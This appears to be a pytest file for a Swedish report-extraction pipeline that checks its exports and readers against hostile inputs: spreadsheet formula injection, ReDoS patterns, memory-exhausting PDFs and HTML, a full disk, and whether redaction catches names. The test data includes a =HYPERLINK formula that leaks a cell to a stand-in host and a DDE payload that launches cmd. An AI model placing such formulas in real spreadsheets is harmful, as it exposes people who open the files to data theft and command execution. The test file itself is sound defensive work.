"""The third round of hostile and careless inputs (issue 21): spreadsheet formulas, exports that
must not delete what they did not write, redaction, hangs, a full disk, numbers read wrong. Each
case failed on the code before it."""

from __future__ import annotations

import csv
import json
import shutil
from pathlib import Path

import pytest

from tests.conftest import COMPILED, SEED, cli

SEED_TEXT = SEED.read_text(encoding="utf-8")


def project(tmp_path: Path, text: str = SEED_TEXT, name: str = "rapport.txt") -> Path:
    (tmp_path / "raw").mkdir(parents=True, exist_ok=True)
    (tmp_path / "raw" / name).write_text(text, encoding="utf-8")
    return tmp_path


def extracted(tmp_path: Path, text: str = SEED_TEXT) -> Path:
    project(tmp_path, text)
    result = cli("extract", "-q", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    return tmp_path / "output"


LEAK = '=HYPERLINK("http://example.invalid/?leak="&A2,"Läs mer")'
FORMULAS = SEED_TEXT.replace("Tidigare engagemang: ERUF-projekt Social Integrering Blekinge",
                             f"Tidigare engagemang: {LEAK} ERUF-projekt Social Integrering Blekinge", 1).replace(
    "Kontakt: Johan Nilsson, PL regionen", "Kontakt: Johan Nilsson, =1+1", 1).replace(
    "Tidigare engagemang: ASF-projekt\n", "Tidigare engagemang: =cmd|' /C calc'!A0\n", 1).replace(
    "Tidigare engagemang: ASF-projekt\n", "Tidigare engagemang: @SUM(1+1) ASF-projekt\n", 1).replace(
    "Konkret: kunskapshöjning", "Konkret: @SUM(1+1) kunskapshöjning", 1)


# --- spreadsheets ---------------------------------------------------------------------------------

def test_no_text_becomes_a_formula_in_the_workbook(tmp_path):
    from openpyxl import load_workbook

    output = extracted(tmp_path, FORMULAS)
    assert cli("export", "--format", "xlsx", cwd=tmp_path).returncode == 0
    workbook = load_workbook(output / "export" / "tables.xlsx")
    texts = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row
             if isinstance(cell.value, str) and cell.value.startswith("=")]
    assert texts, "the hostile texts are in the tables"
    assert all(cell.data_type == "s" for cell in texts), [c.value for c in texts if c.data_type != "s"]
    sections = workbook["sections"]
    assert any(isinstance(c.value, str) and c.value.startswith(LEAK) for row in sections.iter_rows() for c in row)


def test_csv_fields_that_start_a_formula_get_an_apostrophe_and_parquet_keeps_them(tmp_path):
    import pandas as pd

    output = extracted(tmp_path, FORMULAS)
    assert cli("export", "--format", "csv", cwd=tmp_path).returncode == 0
    with (output / "export" / "csv" / "sections.csv").open(encoding="utf-8", newline="") as stream:
        texts = [row["text"] for row in csv.DictReader(stream)]
    assert any(t.startswith("'" + LEAK) for t in texts) and any(t.startswith("'=cmd|") for t in texts)
    for cell in (c for row in csv.reader((output / "export" / "csv" / "sections.csv").open(encoding="utf-8"))
                 for c in row):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    sections = pd.read_parquet(output / "parquet" / "sections.parquet")
    assert sections.text.str.startswith(LEAK).any()  # the dataset keeps the value as written
    with (output / "export" / "csv" / "contacts.csv").open(encoding="utf-8", newline="") as stream:
        lines = [row["source_line"] for row in csv.DictReader(stream)]
    assert "Johan Nilsson, =1+1" in lines  # inside a field, "=" is no formula


def test_a_phone_number_with_a_plus_reads_as_the_number(tmp_path):
    output = extracted(tmp_path, SEED_TEXT.replace("Kontakt: Johan Nilsson, PL regionen",
                                                   "Kontakt: Johan Nilsson, PL regionen, +46 455 73 50 00", 1))
    assert cli("export", "--format", "csv", cwd=tmp_path).returncode == 0
    with (output / "export" / "csv" / "contacts.csv").open(encoding="utf-8", newline="") as stream:
        phones = [row["phone"] for row in csv.DictReader(stream) if row["phone"]]
    assert phones == ["'+46 455 73 50 00"]


# --- exports delete only what they wrote ---------------------------------------------------------

def test_export_refuses_a_users_own_data_package_and_deletes_nothing(tmp_path):
    extracted(tmp_path)
    mine = tmp_path / "mina" / "csv"
    mine.mkdir(parents=True)
    (mine / "sales.csv").write_text("id,amount\n1,100\n", encoding="utf-8")
    (mine / "datapackage.json").write_text(json.dumps({"resources": [{"name": "sales", "path": "sales.csv"}]}),
                                           encoding="utf-8")
    result = cli("export", "--format", "csv", "--to", str(tmp_path / "mina"), cwd=tmp_path)
    assert result.returncode == 1 and result.stderr.count("\n") == 1 and "did not write it" in result.stderr
    assert (mine / "sales.csv").read_text(encoding="utf-8") == "id,amount\n1,100\n"
    assert sorted(p.name for p in mine.iterdir()) == ["datapackage.json", "sales.csv"]


def test_export_replaces_its_own_files_and_keeps_the_other_format(tmp_path):
    extracted(tmp_path)
    to = tmp_path / "ut"
    for fmt in ("csv", "xlsx", "csv"):
        assert cli("export", "--format", fmt, "--to", str(to), cwd=tmp_path).returncode == 0
    assert (to / "tables.xlsx").is_file() and (to / "csv" / "regions.csv").is_file()
    marker = (to / ".pipeline-export").read_text(encoding="utf-8").splitlines()
    assert "tables.xlsx" in marker and "csv/regions.csv" in marker


@pytest.mark.parametrize("damage", ["truncated", "under a file"])
def test_every_export_failure_is_one_line(tmp_path, damage):
    output = extracted(tmp_path)
    to = tmp_path / "ut"
    if damage == "truncated":
        table = output / "parquet" / "regions.parquet"
        table.write_bytes(table.read_bytes()[:200])
    else:
        (tmp_path / "fil").write_text("x", encoding="utf-8")
        to = tmp_path / "fil" / "ut"
    result = cli("export", "--format", "xlsx", "--to", str(to), cwd=tmp_path)
    assert result.returncode == 1 and result.stderr.count("\n") == 1 and "Traceback" not in result.stderr
    assert ("regions.parquet" if damage == "truncated" else "fil") in result.stderr


# --- redaction --------------------------------------------------------------------------------------

SALT = "s3cret-salt-of-sixteen"
PEOPLE = ["Karin Svensson", "Per Holm", "Eva Ek", "Ingrid McDonald", "Sean MacLeod", "Tom DeLuca", "Anna BERG",
          "Erik BERGSTRÖM", "Lena Karlsson"]
NUMBERS = ["lena.karlsson(a)almi.se", "lena.karlsson at almi dot se", "lena.karlsson @ almi.se",
           "08/123 45 67", "0455/30 50 00", "800101–1234", "19750315 - 5678"]
REDACTED = SEED_TEXT.replace(
    "Konkret: I en första fas av projektet",
    "Konkret: Enligt Karin Svensson går det bra. Med Per Holm som stöd. När Eva Ek började kom Ingrid McDonald, "
    "Sean MacLeod och Tom DeLuca. Anna BERG och Erik BERGSTRÖM deltog. Mejla lena.karlsson(a)almi.se, "
    "lena.karlsson at almi dot se eller lena.karlsson @ almi.se, ring 08/123 45 67 eller 0455/30 50 00. "
    "Personnummer 800101–1234 och 19750315 - 5678 ska inte stå här. Ansvarig är Johan\u00adNilsson. "
    "I en första fas av projektet", 1).replace(
    # our own attack round: contact lines the parser dropped or whose details the redaction missed
    "Lena Karlsson, ALMI\n", "Lena Karlsson, ALMI\nGreta Ek, Almi, tel 46 70 123 45 67\nSara Ek, Almi, 46701234567\n"
    "Ida Ek, Almi, ida.ek%40almi.se\nBo Ek, Almi, https://www.linkedin.com/in/bo-ek-12345\nMohammed al-Hassan, Almi\n"
    "Jean d'Arc, Almi\nKarin ten Bosch, Almi\nmaria svensson, Almi\n", 1)


def _all_bytes(folder: Path) -> dict[str, bytes]:
    """Every file's bytes; a Parquet table's as its rows' text (its pages are compressed)."""
    import pyarrow.parquet as pq

    return {str(p): str(pq.read_table(p).to_pylist()).encode() if p.suffix == ".parquet" else p.read_bytes()
            for p in folder.rglob("*") if p.is_file()}


def test_no_name_or_number_survives_redaction_in_any_output(tmp_path):
    """Every file the product writes (tables, JSON, interim, review site, data package, both exports,
    the diff's Markdown, JSON and page) is searched for every real name and number, in every form."""
    project(tmp_path, REDACTED)
    # a second document names Lena Karlsson only in the genitive: she must get the same pseudonym
    (tmp_path / "raw" / "andra.txt").write_text(SEED_TEXT.replace(
        "Konkret: I en första fas av projektet", "Konkret: Lena Karlssons arbete fortsätter. I en första fas av "
        "projektet", 1).replace("Kända sociala företag: 44", "Kända sociala företag: 45"), encoding="utf-8")
    (tmp_path / "salt.txt").write_text(SALT + "\n", encoding="utf-8")
    result = cli("extract", "-q", "--redact-people", "--salt-file", "salt.txt", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    old = tmp_path / "old"
    shutil.copytree(tmp_path / "output" / "json", old / "json")
    (tmp_path / "raw" / "andra.txt").write_text(SEED_TEXT.replace("Kända sociala företag: 44",
                                                                 "Kända sociala företag: 46"), encoding="utf-8")
    assert cli("extract", "-q", "--redact-people", "--salt-file", "salt.txt", cwd=tmp_path).returncode == 0
    for fmt in ("csv", "xlsx"):
        assert cli("export", "--format", fmt, cwd=tmp_path).returncode == 0
    diff_md = cli("diff", str(old), "output", "--html", str(tmp_path / "diff.html"), cwd=tmp_path)
    diff_json = cli("diff", str(old), "output", "--format", "json", cwd=tmp_path)
    files = _all_bytes(tmp_path / "output") | _all_bytes(tmp_path / "interim") | {
        "diff.md": diff_md.stdout.encode(), "diff.json": diff_json.stdout.encode(),
        "diff.html": (tmp_path / "diff.html").read_bytes()}
    from openpyxl import load_workbook

    workbook = load_workbook(tmp_path / "output" / "export" / "tables.xlsx")  # a zip: search its cells
    files["tables.xlsx"] = "\n".join(str(c.value) for sheet in workbook.worksheets for row in sheet.iter_rows()
                                     for c in row if c.value is not None).encode()
    forms = [*PEOPLE, *(p.upper() for p in PEOPLE), "Lena Karlssons", "lena.karlsson", "123 45 67", "30 50 00",
             "800101", "19750315", "8001011234", "197503155678", "1234567", "305000", "McDonald", "MacLeod", "DeLuca", "BERGSTRÖM",
             "Johan Nilsson", "JohanNilsson", "46 70 123 45 67", "46701234567", "ida.ek", "bo-ek", "al-Hassan",
             "d'Arc", "ten Bosch", "maria svensson"]
    for name, content in files.items():
        text = content.decode("utf-8", "replace")
        for form in forms:
            assert form not in text, (form, name)
    from pipeline.redact import pseudonym

    lena = pseudonym("Lena Karlsson", SALT)
    texts = [(tmp_path / "interim" / d / "text.txt").read_text(encoding="utf-8") for d in ("rapport", "andra")]
    assert all(lena in t for t in texts)  # one person, one pseudonym, in the nominative and the genitive


# --- hangs and memory ---------------------------------------------------------------------------------

def test_the_diff_of_two_long_extractions_that_differ_in_one_word_matches_only_a_small_middle(tmp_path, monkeypatch):
    """Two 210 KB extractions a word apart: difflib is only ever given the few words around the
    change (its worst case, the product of the two lengths, was still running after 120 s)."""
    import difflib

    from pipeline.review import sequences

    words = " ".join(f"ord{n % 97} samverkan" for n in range(18_000))  # ~210 KB of repeating words
    long = SEED_TEXT.replace("Konkret: I en första fas av projektet", f"Konkret: {words} I en första fas", 1)
    for side, text in (("old", long), ("new", long.replace("ord5 samverkan ord6", "ord5 samarbete ord6", 1))):
        side_dir = tmp_path / side
        project(side_dir, text)
        assert cli("extract", "-q", cwd=side_dir).returncode == 0
    pairs: list[int] = []
    real = difflib.SequenceMatcher

    def recording(junk, a, b, autojunk=True):
        pairs.append(len(a) * len(b))
        return real(junk, a, b, autojunk=autojunk)

    monkeypatch.setattr(sequences.difflib, "SequenceMatcher", recording)
    result = cli("diff", str(tmp_path / "old" / "output"), str(tmp_path / "new" / "output"), cwd=tmp_path)
    assert result.returncode == 1 and "samarbete" in result.stdout
    assert pairs and max(pairs) <= sequences.MAX_PAIRS


def test_a_long_changed_middle_is_one_replacement():
    from pipeline.review.sequences import MAX_PAIRS, opcodes

    a = [f"w{n % 13}" for n in range(3_000)]
    b = [f"v{n % 11}" for n in range(3_000)]
    assert len(a) * len(b) > MAX_PAIRS
    assert opcodes(["x", *a, "y"], ["x", *b, "y"]) == [("equal", 0, 1, 0, 1), ("replace", 1, 3_001, 1, 3_001),
                                                       ("equal", 3_001, 3_002, 3_001, 3_002)]
    assert opcodes(list("abcxdef"), list("abcdef")) == [("equal", 0, 3, 0, 3), ("delete", 3, 4, 3, 3),
                                                        ("equal", 4, 7, 3, 6)]


def test_a_page_of_misspelled_labels_lists_a_hundred_findings_of_a_kind_and_sums_up_the_rest(tmp_path):
    from pipeline.models import MAX_FINDINGS_PER_CODE
    from pipeline.runner.run import extract_text
    from pipeline.runner.sources import Source

    at = SEED_TEXT.index("Region Blekinge sprider kunskap")
    text = (SEED_TEXT[:at] + "Region Blekinge sprider kunskap\n\n"
            + "".join(f"Kontakx: Person {n}\n" for n in range(5_000)) + "\n" + SEED_TEXT[at:])
    extraction, _ = extract_text(Source(tmp_path / "x.txt", "raw/x.txt", "x", "text"), text.encode(), COMPILED)
    blekinge = extraction.regions[0]
    misspelled = [f for f in blekinge.quality if f.code == "label_misspelled"]
    assert len(misspelled) == MAX_FINDINGS_PER_CODE + 1  # was one per line: 2.5 GB for 3 MB of them
    assert misspelled[-1].message.startswith(f"and {5_000 - MAX_FINDINGS_PER_CODE} more findings like it")
    assert len(blekinge.sections) == 5_000  # the text itself is all kept


def test_a_huge_salt_file_is_refused_without_reading_it(tmp_path):
    project(tmp_path)
    with (tmp_path / "salt.txt").open("wb") as stream:
        stream.truncate(3 * 1024 ** 3)  # 3 GB, sparse: read whole it was a MemoryError
    result = cli("extract", "--redact-people", "--salt-file", "salt.txt", cwd=tmp_path)
    assert result.returncode == 1 and result.stderr.count("\n") == 1 and "over 4096 bytes" in result.stderr
    assert not (tmp_path / "output").exists()


@pytest.mark.parametrize(("key", "pattern"), [("web_leftovers", "(ö+)+fönster"), ("claims", r"(\w+\s?)+regioner"),
                                             ("claims", r"(?P<claimed>\d+) av (?P<of>\d+)(a|ab)*"),
                                             ("web_leftovers", r"(länk)\1")])
def test_a_profile_pattern_that_can_take_exponential_time_is_refused_in_one_line(tmp_path, key, pattern):
    profile = (Path(__file__).resolve().parent.parent / "pipeline" / "profiles" / "sa-arbetar-regionerna.toml"
               ).read_text(encoding="utf-8")
    if key == "web_leftovers":
        profile = profile.replace('pattern = "öppnas i nytt fönster"', f"pattern = '{pattern}'")
    else:
        profile = profile.replace(r"patterns = ['fokusområden[^.:]*?\bär\s+(?P<list>[^.]+)\.']",
                                  f"patterns = ['{pattern}(?P<list>x)']") if "claimed" not in pattern else \
            profile.replace(r"patterns = ['\b(?P<claimed>\d+)\s+av\s+(?:\w+\s+){0,2}?(?P<of>\d+)\s+(?:\w+\s+)?regioner']",
                            f"patterns = ['{pattern}']")
    assert pattern in profile
    project(tmp_path)
    (tmp_path / "p.toml").write_text(profile, encoding="utf-8")
    result = cli("extract", "--profile", "p.toml", cwd=tmp_path)  # was: the run hung on a hostile line
    assert result.returncode == 1 and result.stderr.count("\n") == 1 and "exponential time" in result.stderr
    assert "profile key" in result.stderr and not (tmp_path / "output").exists()


def _with_file_size_limit(limit: int):
    """For a child process: every file it writes may hold at most ``limit`` bytes (a disk that
    fills up part way through a run, without needing one), and writing past it fails, not kills."""
    import resource
    import signal

    def limited() -> None:
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
        resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))
    return limited


@pytest.mark.parametrize("limit", [20_000, 400_000])  # fails in the interim files / in the review site
@pytest.mark.parametrize("jobs", ["1", "2"])
def test_a_full_disk_is_one_line_naming_the_file_and_the_output_is_kept(tmp_path, limit, jobs):
    # was "internal error: OSError … No space left on device", exit 3, no path
    import subprocess
    import sys

    output = extracted(tmp_path)
    before = _all_bytes(output)
    (tmp_path / "raw" / "andra.txt").write_text(SEED_TEXT.replace("Kända sociala företag: 44", "Kända sociala "
                                                                  "företag: 45"), encoding="utf-8")
    (tmp_path / "raw" / "rapport.txt").write_text(SEED_TEXT.replace("Kända sociala företag: 44", "Kända sociala "
                                                                    "företag: 46"), encoding="utf-8")
    result = subprocess.run([sys.executable, "-m", "pipeline", "extract", "--jobs", jobs], cwd=tmp_path,
                            capture_output=True, text=True, preexec_fn=_with_file_size_limit(limit),
                            env={"PYTHONPATH": str(Path(__file__).resolve().parent.parent), "PATH": "/usr/bin:/bin",
                                 "PYTHONDONTWRITEBYTECODE": "1"})  # no cache file cut short by the limit
    assert result.returncode == 1
    (line,) = result.stderr.splitlines()
    assert line.startswith(f"error: {tmp_path}/") and "cannot write (File too large); the previous output is kept" in line
    assert _all_bytes(output) == before
    assert not [p for p in [*tmp_path.iterdir(), *(tmp_path / "interim").iterdir()] if ".staging-" in p.name]


# --- PDFs that attack by their structure: read in a child process under limits -------------------

HOSTILE_PDFS = {
    "nested-forms.pdf": "nested_forms",  # 7 KB: aborted the whole run with signal 6 at 4.2 GB
    "shared-contents.pdf": "shared_contents",  # one 300 KB stream as the contents of 2000 pages
    "image-contents.pdf": "contents_called_an_image",  # 850 KB of "image" that is 300 MB of text
}


@pytest.mark.parametrize("engine", ["pdfium", "pdfplumber"])
def test_a_pdf_built_to_exhaust_memory_or_time_is_that_documents_one_line_error(tmp_path, monkeypatch, engine):
    from generators import hostile_pdfs
    from pipeline.readers import isolation

    monkeypatch.setattr(isolation, "MEMORY_BYTES", 512 * 1024**2)  # the limits, smaller to test quickly
    monkeypatch.setattr(isolation, "SECONDS", 2.0)
    project(tmp_path)
    for name, build in HOSTILE_PDFS.items():
        (tmp_path / "raw" / name).write_bytes(getattr(hostile_pdfs, build)())
    result = cli("extract", "--keep-going", "--pdf-engine", engine, cwd=tmp_path)
    assert result.returncode == 1
    errors = sorted(line for line in result.stderr.splitlines() if line.startswith("error: "))
    assert [line.split(":")[1].strip().removeprefix("raw/") for line in errors] == sorted(HOSTILE_PDFS)
    # over a limit; or, under it, PDFium cannot even load the file (its allocation fails): refused all the same
    assert all(any(said in line for said in ("PDF memory limit of 512 MiB", "PDF time limit of 2 s",
                                             "not a readable PDF")) for line in errors), errors
    assert "Traceback" not in result.stderr
    documents = json.loads((tmp_path / "output" / "provenance.json").read_text(encoding="utf-8"))["documents"]
    assert [d["source_path"] for d in documents] == ["raw/rapport.txt"]  # the run went on
    leftovers = [p for folder in (tmp_path, tmp_path / "interim", tmp_path / "output") for p in folder.iterdir()
                 if ".staging-" in p.name]
    assert leftovers == []


def test_the_pdf_limits_hold_in_a_child_and_the_reader_goes_on(tmp_path):
    from pipeline.errors import UnusableInputError
    from pipeline.readers import isolation

    with pytest.raises(UnusableInputError, match="PDF memory limit of 64 MiB"):
        isolation.run_limited(tmp_path / "x.pdf", lambda: bytearray(512 * 1024**2), memory=64 * 1024**2)
    with pytest.raises(UnusableInputError, match="PDF time limit of 0.5 s"):
        isolation.run_limited(tmp_path / "x.pdf", lambda: __import__("time").sleep(30), seconds=0.5)
    with pytest.raises(UnusableInputError, match="no text layer"):  # the work's own error comes back as it was
        isolation.run_limited(tmp_path / "x.pdf",
                              lambda: (_ for _ in ()).throw(UnusableInputError("x.pdf", "PDF has no text layer")))
    assert isolation.run_limited(tmp_path / "x.pdf", lambda: {"text": "Kontakt: Anna"}) == {"text": "Kontakt: Anna"}


# --- the two PDF engines agree ---------------------------------------------------------------------

ONE_REGION = ["Så arbetar regionerna", "", "17 av 21 regioner driver idag projekt för att främja socialt företagande.", "",
              "Region Blekinge sprider kunskap", "", "Region Blekinge arbetar med att sprida kunskap om sociala företag.",
              "", "Kontakt: Johan Nilsson, PL regionen", "Samverkanspartners: Coompanion och Almi",
              "Kända sociala företag: 44", "Kommuner som arbetar med att främja sociala företag: 5",
              "Företagsfrämjare som aktivt stöttar sociala företag: Coompanion, Almi"]


@pytest.mark.parametrize("engine", ["pdfium", "pdfplumber"])
def test_a_page_tree_that_names_one_page_three_times_reads_it_once_in_both_engines(tmp_path, engine):
    # PDFium took the title, on all three "pages", for running furniture and found no region
    from generators import hostile_pdfs

    project(tmp_path, SEED_TEXT, "ingen.txt").joinpath("raw", "ingen.txt").unlink()
    (tmp_path / "raw" / "upprepad.pdf").write_bytes(hostile_pdfs.repeated_page(ONE_REGION, times=3))
    assert cli("extract", "-q", "--pdf-engine", engine, cwd=tmp_path).returncode == 0
    (region,) = [json.loads(p.read_text(encoding="utf-8"))
                 for p in (tmp_path / "output" / "json" / "upprepad").glob("10-*.json")]
    assert region["known_social_enterprises"]["value"] == 44
    document = json.loads((tmp_path / "output" / "json" / "upprepad" / "document.json").read_text(encoding="utf-8"))
    assert document["title"] == "Så arbetar regionerna"


@pytest.mark.parametrize("engine", ["pdfium", "pdfplumber"])
def test_a_font_without_a_unicode_map_reads_the_same_in_both_engines(tmp_path, engine):
    # PDFium read the glyph numbers ("6 ¥�DUE HWDU") and found no region, with no finding
    project(tmp_path, SEED_TEXT, "ingen.txt").joinpath("raw", "ingen.txt").unlink()
    shutil.copy(Path(__file__).parent / "fixtures" / "font-without-tounicode.pdf", tmp_path / "raw" / "utan.pdf")
    assert cli("extract", "-q", "--pdf-engine", engine, cwd=tmp_path).returncode == 0
    folder = tmp_path / "output" / "json" / "utan"
    (region,) = [json.loads(p.read_text(encoding="utf-8")) for p in folder.glob("10-*.json")]
    assert region["known_social_enterprises"]["value"] == 44
    assert [c["name"] for c in region["contacts"]] == ["Johan Nilsson"]
    codes = [f["code"] for f in json.loads((folder / "document.json").read_text(encoding="utf-8"))["quality"]]
    assert ("pdf_read_by_reference_engine" in codes) == (engine == "pdfium")  # said where it happened


# --- web pages of a million elements or nested beyond any page ---------------------------------------

def test_a_web_page_of_a_million_elements_is_refused_in_one_line_before_it_is_parsed(tmp_path):
    # 26 s and 1.4 GB before; the measured time and memory are in docs/benchmarks-hostile.md
    from pipeline.readers.html import read_html_source

    page = tmp_path / "sida.html"
    page.write_text("<main><h1>Så arbetar regionerna</h1>" + "<p><span>x</span></p>" * 500_001 + "</main>",
                    encoding="utf-8")
    from pipeline.errors import UnusableInputError
    with pytest.raises(UnusableInputError, match="web page has 1 000 004 elements, over the limit of 100 000"):
        read_html_source(page)


def test_divs_nested_beyond_any_page_are_refused_and_inline_nesting_is_not_counted(tmp_path):
    from pipeline.errors import UnusableInputError
    from pipeline.readers.html import read_html_source

    page = tmp_path / "sida.html"
    page.write_text("<main>" + "<div>" * 20_000 + "Region Skåne" + "</div>" * 20_000 + "</main>", encoding="utf-8")
    with pytest.raises(UnusableInputError, match="nests its elements 20 001 deep, over the limit of 16 000"):
        read_html_source(page)
    # a script that writes tags, and bold text never closed, are no nesting
    page.write_text("<main><script>" + "<div>" * 20_000 + "</script><p>Region Skåne bygger</p>" + "<b>x" * 20_000
                    + "</main>", encoding="utf-8")
    assert read_html_source(page).text.startswith("Region Skåne bygger")


# --- our own attack round (after the cases above were fixed) ------------------------------------------

@pytest.mark.parametrize(("line", "expected"), [
    ("1e6", (None, None, "count_unparsed")),  # was 1, exact, no finding
    ("0x10", (None, None, "count_unparsed")),  # was 0
    ("tre hundra", (300, "exact", "count_scaled")),  # was 3
    ("fem hundra", (500, "exact", "count_scaled")),
    ("<50", (50, "at_most", "count_from_sign")),  # was 50, exact
    (">50", (50, "at_least", "count_from_sign")),
    ("−5", (None, None, "count_unparsed")),  # was 5 (U+2212 minus), info only
])
def test_count_lines_an_attacker_writes_are_read_right_or_flagged(line, expected):
    from tests.test_counts import parse

    parsed = parse(line)
    assert (parsed.value, parsed.qualifier, parsed.problems[0][0]) == expected


def test_names_with_particles_or_in_capitals_are_contacts_and_a_line_no_one_is_read_from_is_a_warning(tmp_path):
    # these six lines vanished from Blekinge's contacts with no finding at all
    added = ("Mohammed al-Hassan, Almi\nAli el-Amin, Almi\nJean d'Arc, Almi\nKarin ten Bosch, Almi\n"
             "MARIA SVENSSON, Almi\nmaria svensson, Almi\n")
    output = extracted(tmp_path, SEED_TEXT.replace("Lena Karlsson, ALMI\n", "Lena Karlsson, ALMI\n" + added, 1))
    blekinge = json.loads(next((output / "json" / "rapport").glob("10-*.json")).read_text(encoding="utf-8"))
    names = [c["name"] for c in blekinge["contacts"]]
    assert {"Mohammed al-Hassan", "Ali el-Amin", "Jean d'Arc", "Karin ten Bosch", "MARIA SVENSSON"} <= set(names)
    (unread,) = [f for f in blekinge["quality"] if f["code"] == "contact_line_not_read"]
    assert unread["severity"] == "warning" and unread["evidence"] == "maria svensson, Almi"


def test_a_glyph_drawn_twice_a_little_apart_is_one_character_in_both_engines(tmp_path):
    # "fake bold": pdfplumber read "KKäännddaa ssoocciiaallaa fföörreettaagg:: 5500" and lost the count
    from reportlab.pdfgen import canvas

    from pipeline.readers.pdf import read_pdf_source

    path = tmp_path / "fet.pdf"
    pdf = canvas.Canvas(str(path))
    pdf.setFont("Helvetica", 11)
    for dx in (0, 0.3):
        pdf.drawString(72 + dx, 700, "Kända sociala företag: 50")
    pdf.save()
    for engine in ("pdfium", "pdfplumber"):
        assert read_pdf_source(path, engine=engine).text == "Kända sociala företag: 50\n"


def test_a_superscript_footnote_mark_is_never_glued_into_a_number(tmp_path):
    # "51" with a raised footnote "2" read as 512 in both engines
    from reportlab.pdfgen import canvas

    from pipeline.readers.pdf import read_pdf_source

    path = tmp_path / "fotnot.pdf"
    pdf = canvas.Canvas(str(path))
    text = pdf.beginText(72, 700)
    text.setFont("Helvetica", 10)
    text.textOut("Kända sociala företag: 51")
    text.setRise(4)
    text.setFont("Helvetica", 6)
    text.textOut("2")
    pdf.drawText(text)
    pdf.save()
    for engine in ("pdfium", "pdfplumber"):
        assert read_pdf_source(path, engine=engine).text == "Kända sociala företag: 51 2\n"


def test_a_soft_hyphen_or_word_joiner_between_two_names_is_a_space():
    # "Johan\u00adNilsson" became "JohanNilsson": one word no redaction or reader saw as a name
    from pipeline.readers.text import normalise

    text, _ = normalise("Ansvarig är Johan\u00adNilsson och Eva\u2060Ek; affärs\u00admässighet.")
    assert text == "Ansvarig är Johan Nilsson och Eva Ek; affärsmässighet.\n"


@pytest.mark.parametrize(("written", "value"), [
    ("52<sup>2</sup>", 52),  # a footnote mark: read as 522
    ("<s>51</s><ins>61</ins>", 61),  # the struck-out old value: read as 5161
    ('<span id="gömd">9</span>16', 16),  # hidden by an id rule of the page's style sheet: 916
    ('<span style="font-size:0">1</span>232', 232),  # 1232
    ('<span style="opacity:0">1</span>20', 20),  # 120
    ('<span style="position:absolute;left:-9999px">1</span>17', 17),  # 117
])
def test_digits_a_reader_of_the_page_does_not_see_are_not_glued_into_a_count(tmp_path, written, value):
    from pipeline.readers.html import read_html_source
    from tests.test_counts import parse

    page = tmp_path / "sida.html"
    page.write_text("<html><head><style>#gömd{display:none}</style></head><body><main><h1>Så arbetar regionerna</h1>"
                    f"<p>Kända sociala företag: {written}</p></main></body></html>", encoding="utf-8")
    line = next(line for line in read_html_source(page).text.splitlines() if line.startswith("Kända"))
    assert parse(line.removeprefix("Kända sociala företag: ")).value == value


def test_a_line_justified_by_letter_spacing_reads_as_its_words_in_both_engines(tmp_path):
    # "F ö r e t a g s f r ä m j a r e …" joined the count line above: 4 listed, exact, for "ej angett"
    from reportlab.pdfgen import canvas

    from pipeline.readers.pdf import read_pdf_source

    path = tmp_path / "spärrad.pdf"
    pdf = canvas.Canvas(str(path))
    text = pdf.beginText(72, 700)
    text.setFont("Helvetica", 10)
    text.textLine("Kommuner som arbetar med att främja sociala företag: ej angett")
    text.setCharSpace(1.57)
    text.textLine("Företagsfrämjare som aktivt stöttar sociala företag: Coompanion, Almi, BBI")
    pdf.drawText(text)
    pdf.save()
    for engine in ("pdfium", "pdfplumber"):
        assert read_pdf_source(path, engine=engine).text.splitlines()[1] == (
            "Företagsfrämjare som aktivt stöttar sociala företag: Coompanion, Almi, BBI")
